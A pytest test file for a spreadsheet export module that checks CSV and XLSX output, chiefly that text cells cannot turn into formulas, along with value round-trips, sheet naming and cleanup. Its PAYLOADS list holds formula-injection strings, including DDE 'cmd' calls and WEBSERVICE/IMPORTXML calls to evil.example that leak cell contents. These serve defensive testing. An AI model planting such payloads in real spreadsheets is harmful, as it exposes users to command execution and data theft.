"""Tables for spreadsheets: nothing typed becomes a formula, everything else comes back as it was (rows S10, A18)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from enum import StrEnum
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.workbook import Workbook

from lms.foundation.sheets import (
    Cell,
    Column,
    Properties,
    Sheet,
    csv_bytes,
    csv_chunks,
    neutral,
    write_xlsx,
    xlsx_bytes,
)

PAYLOADS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example\";\"klik\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\";\"//a\")",
    "=IMAGE(\"http://evil.example/x.png\")",
    "=SUM(A1:A9)",
    "=A1",
    "==1",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.example\")",
    "+48600100200",
    "+",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "-",
    "-5",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@",
    "\t=1+1",
    "\tcmd",
    "\r=1+1",
    "\rcmd",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "=\"a\";=1",
    "=1\r\n=2",
    "=1;=2",
]  # fmt: skip
HARMLESS = [
    "",
    "Łącka",
    "600 100 200",
    "a=b",
    "5-8",
    "jan@ops.example",
    "'=1",
    "1;2",
    'mówi "nie"',
    "x\ny",
    "0–2",
]
AT = Properties(
    title="Figures", language="pl", author="Office", made_at=datetime(2026, 11, 22, 9, tzinfo=UTC)
)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


def one_sheet(rows: Iterable[Sequence[Cell]], columns: int = 1, name: str = "People") -> bytes:
    return xlsx_bytes([Sheet(name, [Column(f"Column {n}") for n in range(columns)], rows)], AT)


def opened(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


@pytest.mark.row("S10")
@pytest.mark.parametrize("payload", PAYLOADS)
def test_in_csv_for_people_an_apostrophe_stands_before_what_could_be_a_formula(payload: str) -> None:
    rows = read_csv(csv_bytes([["Name", payload], [payload, "x"]], for_excel=True))
    assert rows == [["Name", f"'{payload}"], [f"'{payload}", "x"]]


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutral(text) == text


@pytest.mark.row("S10")
@pytest.mark.parametrize("text", [*PAYLOADS, *HARMLESS])
def test_in_csv_for_machines_every_text_stays_as_it_is(text: str) -> None:
    assert read_csv(csv_bytes([["a", text, "b"]], for_excel=False)) == [["a", text, "b"]]


@pytest.mark.row("S10")
def test_in_xlsx_every_payload_is_a_text_and_no_formula_or_link_exists() -> None:
    content = one_sheet([[payload] for payload in PAYLOADS])
    sheet = opened(content)["People"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(PAYLOADS)
    assert [shown(cell.value) for cell in cells] == [as_lines(payload) for payload in PAYLOADS]
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        everything = b"".join(parts.read(name) for name in parts.namelist())
    assert re.findall(rb"<f[ >]|<hyperlink|<ddeLink|<externalLink", everything) == []


def as_lines(text: str) -> str:
    """XML readers take every line end for a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def shown(value: str) -> str:
    """What Excel shows: it undoes the escapes _x000D_ of ST_Xstring (ISO 29500-1, 22.9.2.19); openpyxl does not."""
    return as_lines(re.sub("_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), value))


@pytest.mark.row("S10")
def test_phones_and_negative_numbers_survive_a_round_trip() -> None:
    row: list[Cell] = [
        "+48 600 100 200",
        "-5",
        "007",
        -5,
        -1.5,
        Decimal("-12.30"),
        0,
        "85031700022",
        123456789012,
    ]
    sheet = opened(one_sheet([row], len(row)))["People"]
    read = [cell.value for cell in sheet[2]]
    assert read == ["+48 600 100 200", "-5", "007", -5, -1.5, -12.3, 0, "85031700022", 123456789012]
    assert [cell.data_type for cell in sheet[2]] == ["s", "s", "s", "n", "n", "n", "n", "s", "n"]


def test_each_value_is_written_by_its_type() -> None:
    instant = datetime(2026, 11, 22, 23, 30, tzinfo=UTC)  # half past midnight on the 23rd in Warsaw
    row: list[Cell] = [date(2026, 11, 22), instant, True, None, date(1899, 5, 1), 10**16, "_x0041_", "ż\x01ó"]
    sheet = opened(one_sheet([row], len(row)))["People"]
    values = [cell.value for cell in sheet[2]]
    assert [str(value) for value in values[:3]] == ["2026-11-22 00:00:00", "2026-11-23 00:30:00", "True"]
    assert values[3:6] == [None, "1899-05-01", "10000000000000000"]
    assert [shown(value) for value in values[6:]] == ["_x0041_", "ż\x01ó"]
    assert [cell.number_format for cell in sheet[2]][:2] == ["yyyy-mm-dd", "yyyy-mm-dd hh:mm"]


def test_csv_spells_dates_numbers_and_nothing() -> None:
    instant = datetime(2026, 11, 22, 23, 30, tzinfo=UTC)
    row: list[Cell] = [None, 5, -5, 1.5, Decimal("1000.50"), date(2026, 3, 2), instant]
    assert read_csv(csv_bytes([row], for_excel=False)) == [
        ["", "5", "-5", "1.5", "1000.50", "2026-03-02", "2026-11-23 00:30"]
    ]
    assert read_csv(csv_bytes([row], for_excel=True)) == [
        ["", "5", "-5", "1,5", "1000,50", "2026-03-02", "2026-11-23 00:30"]
    ]


@pytest.mark.parametrize("value", [True, object(), b"x", ["a"]])
def test_csv_refuses_what_has_no_one_spelling(value: Any) -> None:
    with pytest.raises(TypeError):
        csv_bytes([[value]], for_excel=False)


@pytest.mark.parametrize("value", [object(), b"x", ["a"]])
def test_xlsx_refuses_what_has_no_cell(value: Any) -> None:
    with pytest.raises(TypeError):
        one_sheet([[value]])


def test_a_naive_instant_is_refused() -> None:
    naive = datetime.fromisoformat("2026-11-22T09:00")
    for write in (lambda: csv_bytes([[naive]], for_excel=False), lambda: one_sheet([[naive]])):
        with pytest.raises(ValueError, match="naive"):
            write()


@pytest.mark.row("S10")
def test_csv_is_utf8_with_a_mark_semicolons_crlf_and_quotes_as_in_the_rfc() -> None:
    content = csv_bytes([["Imię", 'a"b', "c;d", "e\nf", "żółć"], ["x", "", "", "", ""]], for_excel=False)
    assert content == b"\xef\xbb\xbf" + 'Imię;"a""b";"c;d";"e\nf";żółć\r\nx;;;;\r\n'.encode()


def test_csv_of_no_rows_is_a_mark_alone() -> None:
    assert csv_bytes([], for_excel=True) == b"\xef\xbb\xbf"


def test_csv_comes_in_pieces_while_the_rows_are_still_coming() -> None:
    asked: list[int] = []

    def rows() -> Iterator[list[Cell]]:
        for number in range(2_000):
            asked.append(number)
            yield [number]

    pieces = csv_chunks(rows(), for_excel=False)
    first = next(pieces)
    assert len(asked) < 1_000
    assert b"".join([first, *pieces]) == csv_bytes(([number] for number in range(2_000)), for_excel=False)


texts = st.text(st.characters(exclude_categories=["Cs"]) | st.sampled_from(";\"\r\n\t=+-@' ,"), max_size=12)


@given(st.lists(st.lists(texts, min_size=2, max_size=2), min_size=1, max_size=4))
def test_a_csv_for_machines_comes_back_letter_for_letter(rows: list[list[str]]) -> None:
    assert read_csv(csv_bytes(rows, for_excel=False)) == rows


@given(texts)
def test_no_cell_for_people_begins_like_a_formula(text: str) -> None:
    [[cell]] = read_csv(csv_bytes([[text + "x"]], for_excel=True))
    assert not re.match(r"\s*[=+\-@\t\r]", cell)
    assert cell in (text + "x", f"'{text}x")


printable = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)


@given(st.lists(printable, min_size=1, max_size=5))
@settings(max_examples=25, deadline=None)
def test_any_text_survives_a_workbook(values: list[str]) -> None:
    sheet = opened(one_sheet([["x", value] for value in values], 2))["People"]
    assert [row[1] or "" for row in sheet.iter_rows(min_row=2, values_only=True)] == values


@pytest.mark.row("A18")
def test_a_sheet_has_a_frozen_filtered_header_readable_widths_and_no_merged_cells() -> None:
    columns = [Column("No"), Column("Name"), Column("Amount", width=12, number_format="0.00")]
    sheet = Sheet("People", columns, [[1, "Ośrodek Pomocy Społecznej", Decimal("12.5")], [2, "x" * 200, 3]])
    book = opened(xlsx_bytes([sheet], AT))["People"]
    assert [cell.value for cell in book[1]] == ["No", "Name", "Amount"]
    assert book["A1"].font.bold
    assert book.freeze_panes == "A2"
    assert book.auto_filter.ref == "A1:C3"
    assert book.print_title_rows == "$1:$1"
    widths = [round(book.column_dimensions[letter].width) for letter in "ABC"]
    assert widths[0] >= 9
    assert 27 <= widths[1] <= 62
    assert widths[2] in (12, 13)
    assert book["C2"].number_format == "0.00"
    assert not book.merged_cells.ranges


def test_a_document_says_its_title_author_language_and_hour() -> None:
    properties = opened(one_sheet([])).properties
    assert [properties.title, properties.creator, properties.language] == ["Figures", "Office", "pl"]
    assert properties.created.isoformat() == "2026-11-22T09:00:00"


def test_the_same_table_makes_the_same_bytes_and_another_hour_others() -> None:
    rows = [["Łącka", date(2026, 3, 2), 5]]
    first, second = (xlsx_bytes([Sheet("A", [Column("a")] * 3, rows)], AT) for _ in range(2))
    later = replace(AT, made_at=datetime(2026, 11, 23, 9, tzinfo=UTC))
    assert first == second
    assert xlsx_bytes([Sheet("A", [Column("a")] * 3, rows)], later) != first


@pytest.mark.parametrize(
    ("wanted", "got"),
    [
        (["People", "people", "PEOPLE"], ["People", "people 2", "PEOPLE 3"]),
        (["a/b:c*d?[e]\\f"], ["a b c d  e  f"]),
        (["'quoted'", "", "  "], ["quoted", "-", "- 2"]),
        (["History"], ["History 2"]),
        (["x" * 40, "x" * 40], ["x" * 31, "x" * 29 + " 2"]),
    ],
)
def test_every_sheet_gets_a_name_that_excel_accepts(wanted: list[str], got: list[str]) -> None:
    book = opened(xlsx_bytes([Sheet(name, [Column("a")], []) for name in wanted], AT))
    assert book.sheetnames == got


def test_a_text_too_long_for_a_cell_ends_with_an_ellipsis() -> None:
    sheet = opened(one_sheet([["ż" * 32_767], ["ż" * 32_768], ["😀" * 20_000]]))["People"]
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert values[0] == "ż" * 32_767
    assert values[1] == "ż" * 32_766 + "…"
    assert values[2] == "😀" * 16_383 + "…"


class Colour(StrEnum):
    RED = "=red"


def test_a_code_is_written_as_its_text() -> None:
    assert read_csv(csv_bytes([[Colour.RED]], for_excel=False)) == [["=red"]]
    assert read_csv(csv_bytes([[Colour.RED]], for_excel=True)) == [["'=red"]]
    cell = opened(one_sheet([[Colour.RED]]))["People"]["A2"]
    assert [cell.value, cell.data_type] == ["=red", "s"]


def test_more_rows_than_a_sheet_can_hold_are_a_mistake(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("lms.foundation.sheets._MAX_ROWS", 4)
    assert opened(one_sheet([[n] for n in range(3)]))["People"].max_row == 4
    with pytest.raises(ValueError, match="more rows"):
        one_sheet([[n] for n in range(4)])


def test_a_title_stands_above_every_printed_page() -> None:
    book = opened(xlsx_bytes([Sheet("A", [Column("a")], [], print_title="R&D, 22 November")], AT))
    assert book["A"].oddHeader.left.text == "R&&D, 22 November"
    assert book["A"].page_setup.orientation == "landscape"


def test_a_row_of_another_length_is_a_mistake() -> None:
    with pytest.raises(ValueError, match="zip"):
        one_sheet([[1, 2]])


def test_a_failure_half_way_writes_nothing_and_leaves_no_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))

    def rows() -> Iterator[list[Cell]]:
        yield ["Łącka"]
        raise RuntimeError("the database went away")

    target = io.BytesIO()
    with pytest.raises(RuntimeError, match="went away"):
        write_xlsx(target, [Sheet("People", [Column("a")], rows())], AT)
    assert target.getvalue() == b""
    assert list(tmp_path.iterdir()) == []


def test_a_workbook_leaves_no_files_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    assert opened(one_sheet([["a"]])).sheetnames == ["People"]
    assert list(tmp_path.iterdir()) == []
